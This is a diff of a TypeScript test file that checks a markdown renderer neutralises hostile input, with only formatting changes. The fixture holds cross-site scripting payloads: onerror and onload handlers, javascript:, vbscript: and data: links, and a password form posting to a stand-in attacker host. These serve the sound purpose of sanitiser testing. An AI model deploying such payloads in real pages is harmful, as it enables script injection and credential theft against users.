@@ -18,7 +18,7 @@ const HOSTILE_MARKDOWN = [
   '<img src="x" onerror="window.pwned = \'img\'"> <iframe src="javascript:window.pwned=\'iframe\'"></iframe>',
   '<svg onload="window.pwned = \'svg\'"></svg> <style>* { display: none !important }</style>',
   '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
-  '[click me](javascript:window.pwned=\'link\') [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)',
+  "[click me](javascript:window.pwned='link') [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)",
   '<a href="javascript:window.pwned=\'raw link\'">raw</a> [protocol-relative](//evil.example/x) ![tracker](https://evil.example/pixel.png)',
   '[a page](/custom-domain#verify) [outside](https://example.com/docs)',
 ].join('\n\n');
@@ -48,7 +48,9 @@ function expectInert(root: ShadowRoot | Element) {
   const elements = allElements(root);
   expect(elements.filter((element) => ['SCRIPT', 'IFRAME', 'IMG', 'FORM', 'OBJECT', 'EMBED', 'STYLE', 'LINK'].includes(element.tagName))).toEqual([]);
   expect(elements.filter((element) => element.tagName === 'svg' && element.hasAttribute('onload'))).toEqual([]);
-  expect(elements.flatMap((element) => [...element.attributes].filter((attribute) => attribute.name.startsWith('on')).map((attribute) => attribute.name))).toEqual([]);
+  expect(
+    elements.flatMap((element) => [...element.attributes].filter((attribute) => attribute.name.startsWith('on')).map((attribute) => attribute.name)),
+  ).toEqual([]);
   const hrefs = elements.filter((element) => element instanceof HTMLAnchorElement).map((link) => (link as HTMLAnchorElement).href);
   for (const href of hrefs) expect(href).toMatch(/^https:\/\//);
   return hrefs;
